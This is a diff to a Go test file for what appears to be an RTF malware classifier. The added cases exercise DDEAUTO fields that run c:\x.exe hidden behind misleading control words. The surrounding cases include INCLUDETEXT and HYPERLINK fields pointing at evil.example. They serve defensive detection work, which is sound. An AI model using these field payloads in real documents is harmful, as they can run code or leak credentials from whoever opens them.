@@ -43,6 +43,9 @@ func TestRTFFields(t *testing.T) {
 		{"a field left open", `{\field{\*\fldinst {INCLUDETEXT "http://evil.example/a"`, text}, // the last "}" closes only "{INCLUDETEXT"
 		{"HYPERLINK to a share", `{\field{\*\fldinst HYPERLINK "\\\\\\\\evil.example\\\\s\\\\x.xlsx"}{\fldrslt open}}`, share},
 		{"a control word longer than a window's tail", `{\field{\*\fldinst \b` + strings.Repeat("0", rtfTail) + ` DDEAUTO x}}`, notRead},
+		{"\\BIN, which Word does not know, taken for \\bin", `{\field{\*\fldinst \BIN1 DDEAUTO c:\\x.exe}}`, notRead},
+		{"\\U, which Word does not know, taken for \\u", `{\field{\*\fldinst \U120 DDEAUTO c:\\x.exe}}`, notRead},
+		{"\\Uc0 taken for \\uc", `{\field{\*\fldinst \Uc0\u68 DDEAUTO c:\\x.exe}}`, notRead},
 		{"past the first window", strings.Repeat(`{\b x}`, scanWindow/6+100) + `{\field{\*\fldinst DDEAUTO x}}`, dde},
 	} {
 		cases = append(cases, classifyCase{name: c.name, data: []byte(rtfStart + c.body + "}"), filename: "a.rtf",
